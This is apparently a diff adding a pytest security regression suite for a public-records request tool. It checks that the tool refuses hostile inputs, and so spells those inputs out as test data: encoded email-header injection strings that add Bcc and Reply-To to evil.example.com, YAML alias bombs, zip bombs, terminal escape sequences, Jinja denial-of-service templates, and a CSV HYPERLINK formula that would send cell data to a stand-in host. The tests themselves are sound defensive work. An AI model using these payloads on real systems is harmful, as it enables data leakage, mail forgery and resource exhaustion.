@@ -1,0 +1,524 @@
+"""Under attack, round two: each defect of the hostile trial reproduced as written, and a test of
+the class behind it. Every input is real: files on disk, the real email parser, real workbooks,
+the real log; only the clock and nothing else is set."""
+
+from __future__ import annotations
+
+import csv
+import email
+import email.policy
+import io
+import os
+import re
+import sqlite3
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from click.testing import CliRunner
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from recordskit.cli import cli
+from recordskit.documents.email_draft import email_draft
+from recordskit.documents.exports import schedule_csv
+from recordskit.documents.make import prepare_request
+from recordskit.documents.render import LetterTemplate, stamp
+from recordskit.errors import InputFileError, TemplateError, UserError
+from recordskit.files import write_folder
+from recordskit.intake.answers import load_answers, request_from
+from recordskit.intake.privacy import personal_details
+from recordskit.intake.rows import read_rows
+from recordskit.models import Directory
+from recordskit.tracking.log import RequestLog
+from tests.conftest import FROZEN_AGENCIES, FROZEN_TEMPLATES
+
+Answers = Callable[..., dict[str, Any]]
+ENCODED_BCC = ("=?utf-8?b?QW5hDQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGUuY29tDQpSZXBseS1UbzogZXZpbEBl"
+               "dmlsLmV4YW1wbGUuY29t?=")
+ENCODED_HTML = ("=?utf-8?q?a=0D=0AContent-Type=3A_text/html=0D=0A=0D=0A=3Cb=3Ehi=3C/b=3E?=")
+
+
+def invoke(*args: str) -> Any:
+    return CliRunner().invoke(cli, list(args))
+
+
+def draft_headers(directory: Directory, answers: Answers, **changes: Any) -> Any:
+    request = request_from(answers(**changes), directory)
+    made = prepare_request(request, directory)
+    return email.message_from_bytes(made.files["email.eml"], policy=email.policy.default)
+
+
+# 1. Email header and MIME injection through RFC 2047 encoded words.
+@pytest.mark.parametrize("payload", [ENCODED_BCC, ENCODED_HTML])
+def test_encoded_words_forge_no_header_or_body(directory: Directory, answers: Answers,
+                                               payload: str) -> None:
+    message = draft_headers(directory, answers, requester__name=payload)
+    assert sorted(message.keys()) == sorted(["To", "From", "Subject", "Date", "Message-ID",
+                                             "X-Unsent", "MIME-Version", "Content-Type"])
+    assert message["Bcc"] is None and message["Reply-To"] is None
+    assert [part.get_content_type() for part in message.walk()] == [
+        "multipart/mixed", "text/plain",
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"]
+    assert str(message["From"]).startswith(payload.replace("=?", "= ?")[:20])
+
+
+_LETTER = LetterTemplate(FROZEN_TEMPLATES / "summary.docx").render(
+    {"title": "t", "asked_label": "", "asked": [], "whom_label": "", "whom": "", "sent": "",
+     "dates_label": "", "rows": [], "keep": ""}, stamp("t", "summary.docx"))
+
+
+@settings(max_examples=40, deadline=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(name=st.text(st.characters(blacklist_categories=("Cs",)), max_size=60),
+       organization=st.sampled_from(["", "=?utf-8?q?x=0D=0ABcc:_a@b.c?=", "Org\r\nBcc: a@b.c"]))
+def test_no_header_text_adds_a_header_class(directory: Directory, answers: Answers, name: str,
+                                            organization: str) -> None:
+    try:
+        request = request_from(answers(requester__name=name,
+                                       requester__organization=organization), directory)
+    except InputFileError:
+        return  # refused where it is read (control characters): nothing reaches a header
+    draft = email_draft(request, directory.agency("bps"), _LETTER, "Public records request")
+    assert draft is not None
+    message = email.message_from_bytes(draft, policy=email.policy.default)
+    assert set(message.keys()) <= {"To", "From", "Subject", "Date", "Message-ID", "X-Unsent",
+                                   "MIME-Version", "Content-Type"}
+
+
+# 2. YAML alias bombs, and the class: every YAML input refuses anchors, aliases, deep nesting.
+BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
+    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8))
+
+
+def test_an_alias_bomb_in_an_answers_file_is_refused(tmp_path: Path,
+                                                     directory: Directory) -> None:
+    path = tmp_path / "a.yaml"
+    path.write_text(BOMB)
+    with pytest.raises(InputFileError, match=r"a.yaml:1:4: uses a YAML anchor or alias"):
+        load_answers(path, directory)
+
+
+@pytest.mark.parametrize("command", [["agencies", "validate"], ["agencies", "list"],
+                                     ["agencies", "edit", "bps", "--set", "notes=x"]])
+def test_an_alias_bomb_in_the_directory_is_refused(tmp_path: Path, command: list[str]) -> None:
+    path = tmp_path / "agencies.yaml"
+    path.write_text(FROZEN_AGENCIES.read_text() + "\nunknown_key:\n  " +
+                    BOMB.replace("\n", "\n  "))
+    if command[1] == "edit":
+        command = [*command[:3], str(path), *command[3:]]
+        result = invoke(*command)
+    else:
+        result = invoke("--agencies", str(path), *command)
+    assert result.exit_code == 1
+    assert "uses a YAML anchor or alias" in result.output
+
+
+@pytest.mark.parametrize("text", ["a: " + "[" * 20_000 + "]" * 20_000,
+                                  "a: " + "{b: " * 50 + "1" + "}" * 50])
+def test_deep_nesting_is_refused(tmp_path: Path, directory: Directory, text: str) -> None:
+    path = tmp_path / "a.yaml"
+    path.write_text(text)
+    with pytest.raises(InputFileError, match="nesting is over the limit of 40"):
+        load_answers(path, directory)
+    rows = tmp_path / "rows.yaml"
+    rows.write_text("- " + text)
+    with pytest.raises(InputFileError, match="nesting is over the limit"):
+        read_rows(rows)
+
+
+# 3. XLSX dimension and zip bombs.
+def _xlsx(sheet_xml: str, padding: int = 0) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
+        book.writestr("[Content_Types].xml",
+                      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
+                      'package/2006/content-types"><Default Extension="rels" ContentType="'
+                      'application/vnd.openxmlformats-package.relationships+xml"/><Default '
+                      'Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
+                      'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+                      'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.'
+                      'xml" ContentType="application/vnd.openxmlformats-officedocument.'
+                      'spreadsheetml.worksheet+xml"/></Types>')
+        book.writestr("_rels/.rels",
+                      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.'
+                      'org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
+                      'schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                      'officeDocument" Target="xl/workbook.xml"/></Relationships>')
+        book.writestr("xl/workbook.xml",
+                      '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
+                      'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
+                      'officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" '
+                      'r:id="rId1"/></sheets></workbook>')
+        book.writestr("xl/_rels/workbook.xml.rels",
+                      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.'
+                      'org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
+                      'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
+                      'Target="worksheets/sheet1.xml"/></Relationships>')
+        book.writestr("xl/worksheets/sheet1.xml", sheet_xml)
+        if padding:
+            book.writestr("padding.bin", b"\0" * padding)
+    return out.getvalue()
+
+
+def test_a_declared_sheet_of_a_million_rows_is_read_as_it_really_is(tmp_path: Path) -> None:
+    sheet = ('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
+             'spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData>'
+             '<row r="1"><c r="A1" t="inlineStr"><is><t>agency</t></is></c></row>'
+             '<row r="2"><c r="A2" t="inlineStr"><is><t>bps</t></is></c></row>'
+             '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
+             '</sheetData></worksheet>')
+    path = tmp_path / "rows.xlsx"
+    path.write_bytes(_xlsx(sheet))
+    rows = read_rows(path)  # quick and small: bounded by the limits, not the dimension
+    assert [row.values.get("agency") for row in rows] == ["bps"]
+
+
+def test_an_xlsx_zip_bomb_is_refused_before_it_is_opened(tmp_path: Path,
+                                                         monkeypatch: pytest.MonkeyPatch
+                                                         ) -> None:
+    monkeypatch.setenv("RECORDSKIT_MAX_BATCH_UNPACKED_BYTES", "1000000")
+    path = tmp_path / "rows.xlsx"
+    path.write_bytes(_xlsx("<worksheet/>", padding=5_000_000))  # 5 MB of zeros, 5 KB packed
+    assert path.stat().st_size < 100_000
+    with pytest.raises(InputFileError, match="unpacked is over the limit of 1,000,000 bytes"):
+        read_rows(path)
+
+
+def test_a_batch_file_over_its_row_limit_is_refused(tmp_path: Path,
+                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("RECORDSKIT_MAX_BATCH_ROWS", "3")
+    path = tmp_path / "rows.csv"
+    path.write_text("agency\n" + "bps\n" * 4)
+    with pytest.raises(InputFileError, match=r"over the limit of 3 rows.*RECORDSKIT_MAX_BATCH_ROWS"):
+        read_rows(path)
+
+
+# 4. --check approves rows that then abort a batch; 16. dates outside the sane window.
+@pytest.mark.parametrize(("column", "value", "message"), [
+    ("requester.email", "a@x.org.", "is not an email address"),
+    ("sent_on", "9999-12-01", "is outside 1990–2100"),
+    ("sent_on", "0001-01-01", "is outside 1990–2100"),
+])
+def test_check_refuses_what_production_would_fail_on(tmp_path: Path, column: str, value: str,
+                                                     message: str) -> None:
+    path = tmp_path / "rows.csv"
+    row = {"agency": "bps", "records": "school-police-reports-shared-with-bric",
+           "requester.email": "a@b.org", "delivery": "email", "sent_on": "2026-11-23"}
+    row[column] = value
+    path.write_text(",".join(row) + "\n" + ",".join(row.values()) + "\n")
+    checked = invoke("batch", str(path), "--check")
+    assert checked.exit_code == 1 and message in checked.output
+    produced = invoke("batch", str(path), "--out", str(tmp_path / "out"))
+    assert produced.exit_code == 1  # reported, no traceback
+    assert message in (tmp_path / "out" / "errors.csv").read_text()
+    assert (tmp_path / "out" / "manifest.csv").exists()
+
+
+# 5. Rich markup and escape sequences in user text, in every command that shows it.
+MARKUP = "Emails about [/bold] [red]stuff[/red] \x1b[2J\x1b]0;owned\x07"
+
+
+def test_markup_and_escapes_in_user_text_are_shown_as_text(tmp_path: Path,
+                                                           answers: Answers) -> None:
+    path = tmp_path / "a.yaml"
+    path.write_text(yaml.safe_dump(answers(other_records=MARKUP.replace("\x1b", "").replace(
+        "\x07", ""), records=[])))
+    made = invoke("new", "--answers", str(path), "--out", str(tmp_path / "out[/x]"))
+    assert made.exit_code == 0, made.output
+    request_id = RequestLog().all()[0].id
+    noted = invoke("log", request_id, "received", "--on", "2026-06-12", "--note", MARKUP,
+                   "--tracking", "[/note]\x1b[31m")
+    assert noted.exit_code == 0, noted.output
+    for command in (["status"], ["show", request_id], ["status", "--json"]):
+        shown = invoke(*command)
+        assert shown.exit_code == 0, (command, shown.output)
+        assert "\x1b" not in shown.output and "\x07" not in shown.output
+    show = invoke("show", request_id)
+    assert "[/bold]" in show.output and "[red]stuff[/red]" in show.output
+    assert "[/note]" in show.output
+
+
+# 6. A request logged with another directory; 16. damaged rows in the log.
+def test_a_request_of_another_directory_does_not_break_the_log(tmp_path: Path,
+                                                               answers: Answers) -> None:
+    custom = tmp_path / "agencies.yaml"
+    custom.write_text(FROZEN_AGENCIES.read_text().replace("  - id: bps\n", "  - id: bps-charter\n"))
+    path = tmp_path / "a.yaml"
+    path.write_text(yaml.safe_dump(answers(agency="bps-charter")))
+    assert invoke("--agencies", str(custom), "new", "--answers", str(path), "--out",
+                  str(tmp_path / "o")).exit_code == 0
+    request_id = RequestLog().all()[0].id
+    for command in (["status"], ["status", "--json"], ["show", request_id],
+                    ["calendar", "--out", str(tmp_path / "c.ics")]):
+        result = invoke(*command)
+        assert result.exit_code == 0, (command, result.output)
+        assert "bps-charter" in result.output
+
+
+def test_damaged_rows_are_reported_by_id(tmp_path: Path, answers: Answers,
+                                         _private_log: Path) -> None:
+    path = tmp_path / "a.yaml"
+    for sent in ("2026-06-12", "2026-06-15"):
+        path.write_text(yaml.safe_dump(answers(sent_on=sent)))
+        assert invoke("new", "--answers", str(path), "--out", str(tmp_path / sent)).exit_code == 0
+    good, bad = (r.id for r in RequestLog().all())
+    with sqlite3.connect(_private_log / "requests.sqlite3") as db:
+        db.execute("UPDATE requests SET answers = '{not json' WHERE id = ?", (bad,))
+        db.execute("INSERT INTO events (request_id, event, on_date, details, recorded_at) "
+                   "VALUES (?, 'received', '2026-06-12', '[1, 2]', 'x')", (good,))
+    status = invoke("status")
+    assert status.exit_code == 0
+    assert f"request {bad} in the log cannot be read" in status.output
+    assert f"request {good} in the log cannot be read" in status.output
+    shown = invoke("show", good)
+    assert shown.exit_code == 1 and "the details of event" in shown.output
+
+
+# 7. Concurrent agencies edits: the second refuses instead of losing the first.
+def test_a_concurrent_edit_refuses_instead_of_losing_one(tmp_path: Path) -> None:
+    from recordskit.directory.edit import EditableDirectory
+
+    path = tmp_path / "agencies.yaml"
+    path.write_bytes(FROZEN_AGENCIES.read_bytes())
+    first, second = EditableDirectory.open(path), EditableDirectory.open(path)
+    first.set("bps", "records_officer.phone", "617-635-0001")
+    second.set("bps", "records_officer.fax", "617-635-0002")
+    assert first.save()
+    with pytest.raises(UserError, match="changed by someone else since it was opened"):
+        second.save()
+    assert "617-635-0001" in path.read_text() and "617-635-0002" not in path.read_text()
+
+
+# 8. Writes through links; 12. two runs; 13. a full disk; 17. modes.
+def test_a_batch_never_writes_through_a_linked_row_folder(tmp_path: Path) -> None:
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    (victim / "letter.docx").write_text("precious")
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "c0-bps").symlink_to(victim)
+    (out / "c1-bps").mkdir()
+    (out / "c1-bps" / "letter.docx").symlink_to(tmp_path / "nowhere")  # dangling
+    rows = tmp_path / "rows.csv"
+    rows.write_text("row_id,agency,records,requester.email,delivery,sent_on\n"
+                    "c0,bps,school-police-reports-shared-with-bric,a@b.org,email,2026-11-23\n"
+                    "c1,bps,school-police-reports-shared-with-bric,b@b.org,email,2026-11-23\n")
+    result = invoke("batch", str(rows), "--out", str(out))
+    assert result.exit_code == 1
+    assert (victim / "letter.docx").read_text() == "precious"
+    assert sorted(p.name for p in victim.iterdir()) == ["letter.docx"]
+    assert (out / "c1-bps" / "letter.docx").is_symlink()  # not replaced without --force
+    errors = (out / "errors.csv").read_text()
+    assert "is a symbolic link; recordskit does not write through links" in errors
+
+
+def test_new_force_on_a_full_disk_keeps_the_old_set(tmp_path: Path,
+                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    import errno
+
+    import recordskit.files
+
+    folder = tmp_path / "out"
+    write_folder(folder, {"letter.docx": b"old letter", "answers.yaml": b"old answers"})
+    calls = {"n": 0}
+
+    def full_on_second(fd: int) -> None:
+        calls["n"] += 1
+        if calls["n"] == 2:
+            raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(recordskit.files.os, "fsync", full_on_second)
+    with pytest.raises(UserError, match="No space left on device"):
+        write_folder(folder, {"letter.docx": b"new letter", "answers.yaml": b"new answers"},
+                     force=True)
+    assert (folder / "letter.docx").read_bytes() == b"old letter"
+    assert (folder / "answers.yaml").read_bytes() == b"old answers"
+    assert sorted(p.name for p in folder.iterdir()) == ["answers.yaml", "letter.docx"]
+
+
+def test_modes_follow_the_umask_and_the_replaced_file(tmp_path: Path) -> None:
+    old = os.umask(0o077)
+    try:
+        write_folder(tmp_path / "o", {"answers.yaml": b"private"})
+        assert (tmp_path / "o" / "answers.yaml").stat().st_mode & 0o777 == 0o600
+    finally:
+        os.umask(old)
+    target = tmp_path / "agencies.yaml"
+    target.write_bytes(FROZEN_AGENCIES.read_bytes())
+    target.chmod(0o600)
+    edited = invoke("agencies", "edit", "bps", str(target), "--set", "notes=checked")
+    assert edited.exit_code == 0, edited.output
+    assert target.stat().st_mode & 0o777 == 0o600
+    link = tmp_path / "link.yaml"
+    link.symlink_to(target)
+    refused = invoke("agencies", "edit", "bps", str(link), "--set", "notes=again")
+    assert refused.exit_code == 1 and "is a symbolic link" in refused.output
+    assert link.is_symlink()
+
+
+def test_two_runs_never_remove_each_others_temporary_files(tmp_path: Path) -> None:
+    from recordskit.files import leftover_temporaries
+
+    folder = tmp_path / "row"
+    folder.mkdir()
+    mine = folder / f".letter.docx.rk{os.getpid()}.abc.tmp"
+    dead = folder / ".letter.docx.rk999999999.abc.tmp"
+    mine.write_text("in progress")
+    dead.write_text("left by a killed run")
+    assert leftover_temporaries(folder) == [dead]
+
+
+# 9. CSV injection in every CSV written.
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)",
+            "\t=1", "\r=1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_csv_cell_starts_a_formula(tmp_path: Path, formula: str) -> None:
+    rows = tmp_path / "rows.csv"
+    with rows.open("w", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["row_id", "agency", "records", "requester.email", "delivery"])
+        writer.writerow([formula, "bps", "school-police-reports-shared-with-bric", "a@b.org",
+                         "email"])
+        writer.writerow([formula, "nowhere", "", "a@b.org", "email"])
+    invoke("batch", str(rows), "--out", str(tmp_path / "out"))
+    for name in ("manifest.csv", "errors.csv"):
+        for row in csv.reader((tmp_path / "out" / name).open(newline="")):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+
+
+def test_schedule_csv_cells_are_safe(directory: Directory, answers: Answers) -> None:
+    request = request_from(answers(), directory)
+    made = prepare_request(request, directory)
+    text = schedule_csv(made.schedule.deadlines)
+    for row in csv.reader(io.StringIO(text)):
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
+
+
+# 10. and 11. Templates: outside links, denial of service.
+def _template_with(tmp_path: Path, body: str | None = None, *, rels: str | None = None,
+                   encoding: str = "utf-8") -> Path:
+    source = FROZEN_TEMPLATES / "request.docx"
+    out = tmp_path / "request.docx"
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
+        for info in old.infolist():
+            data = old.read(info.filename)
+            if info.filename == "word/document.xml" and body is not None:
+                xml = data.decode("utf-8")
+                start = xml.index("<w:body>") + len("<w:body>")
+                data = (xml[:start] + f"<w:p><w:r><w:t>{body}</w:t></w:r></w:p>"
+                        + xml[start:]).encode(encoding)
+            if info.filename == "word/_rels/document.xml.rels" and rels is not None:
+                data = data.decode("utf-8").replace("</Relationships>",
+                                                    rels + "</Relationships>").encode("utf-8")
+            new.writestr(info, data)
+    return out
+
+
+@pytest.mark.parametrize(("body", "message"), [
+    ("{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
+     "loops is over the limit"),
+    ("{{ 'a' * 3000000000 }}", "is over the limit"),
+    ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "calls itself without end"),
+    ("{% include 'x.docx' %}", "x.docx"),
+    ("{{ 'a'.center(3000000000) }}", "is over the limit"),
+])
+def test_template_denial_of_service_is_a_clear_error(tmp_path: Path, body: str,
+                                                     message: str) -> None:
+    from recordskit.documents.samples import sample_request_context
+    from recordskit.documents.template_check import check_template
+
+    path = _template_with(tmp_path, body)
+    with pytest.raises(TemplateError, match=message):
+        LetterTemplate(path).render(sample_request_context(), stamp("t", "request.docx"))
+    problems = check_template(path)
+    assert any(message.split()[0] in p.message for p in problems), problems
+
+
+@pytest.mark.parametrize(("kind", "message"), [
+    ("external image", "links to an outside file (http://evil.example/x.png)"),
+    ("utf-16", "is not UTF-8"),
+    ("zip bomb", "unpacked is over the limit"),
+])
+def test_a_template_that_would_reach_out_or_blow_up_is_refused(
+        tmp_path: Path, kind: str, message: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    from recordskit.documents.template_check import check_template
+
+    if kind == "external image":
+        path = _template_with(tmp_path, rels=(
+            '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
+            '2006/relationships/image" Target="http://evil.example/x.png" '
+            'TargetMode="External"/>'))
+    elif kind == "utf-16":
+        path = _template_with(tmp_path, "x", encoding="utf-16")
+    else:
+        monkeypatch.setenv("RECORDSKIT_MAX_TEMPLATE_UNPACKED_BYTES", "100000")
+        path = _template_with(tmp_path)
+    with pytest.raises(TemplateError, match=re.escape(message)):
+        LetterTemplate(path)
+    assert any(message in p.message for p in check_template(path))
+
+
+# 14. and 22. Size limits: nothing is silently cut, nothing huge is read.
+def test_an_answer_over_the_text_limit_is_refused(directory: Directory,
+                                                  answers: Answers) -> None:
+    with pytest.raises(InputFileError, match="over the limit of 20,000 characters"):
+        request_from(answers(other_records="x" * 11_000_000), directory)
+
+
+def test_an_answers_file_over_its_limit_is_refused_unread(tmp_path: Path,
+                                                          directory: Directory) -> None:
+    path = tmp_path / "a.yaml"
+    path.write_bytes(b"other_records: '" + b"x" * 3_000_000 + b"'\n")
+    with pytest.raises(InputFileError, match=r"over the limit of 2,000,000 bytes.*"
+                                             r"RECORDSKIT_MAX_INPUT_BYTES"):
+        load_answers(path, directory)
+    with pytest.raises(InputFileError, match="is not a regular file"):
+        load_answers(Path("/dev/zero"), directory)
+
+
+# 16. Tracebacks become clear errors.
+def test_clear_errors_instead_of_tracebacks(tmp_path: Path) -> None:
+    rows = tmp_path / "rows.yaml"
+    rows.write_text("- {1: bps, agency: bps}\n")
+    checked = invoke("batch", str(rows), "--check")
+    assert checked.exit_code == 1 and "expected a mapping of answers" in checked.output
+    edited = invoke("agencies", "edit", "bps", str(FROZEN_AGENCIES), "--set", "delivery=[email")
+    assert edited.exit_code == 1 and "the list is not closed" in edited.output
+
+
+# 18. The privacy guard.
+def test_the_privacy_guard_sees_through_invisible_characters(directory: Directory,
+                                                             answers: Answers) -> None:
+    request = request_from(answers(other_records="Records about undocu\u200bmented students",
+                                   requester__name="Ana, A-123-456-789",
+                                   requester__mailing_address="c/o asylum office"), directory)
+    kinds = {(f.field, f.kind) for f in personal_details(request)}
+    assert ("other_records", "immigration_status") in kinds
+    assert ("requester.name", "a_number") in kinds
+    assert ("requester.mailing_address", "immigration_status") in kinds
+
+
+# 19. Id prefixes are ids, not patterns; 20. keys given twice.
+@pytest.mark.parametrize("prefix", ["%%%%", "____", "12%4"])
+def test_an_id_prefix_is_never_a_pattern(tmp_path: Path, answers: Answers, prefix: str) -> None:
+    path = tmp_path / "a.yaml"
+    path.write_text(yaml.safe_dump(answers()))
+    assert invoke("new", "--answers", str(path), "--out", str(tmp_path / "o")).exit_code == 0
+    shown = invoke("show", prefix)
+    assert shown.exit_code == 1 and "is not an id" in shown.output
+
+
+def test_keys_given_twice_in_an_answers_file_are_refused(tmp_path: Path,
+                                                         directory: Directory) -> None:
+    path = tmp_path / "a.yaml"
+    path.write_text("agency: bps\nagency: bpd\n")
+    with pytest.raises(InputFileError, match=r"a.yaml:2:1: agency: the key 'agency' is given "
+                                             r"twice here"):
+        load_answers(path, directory)
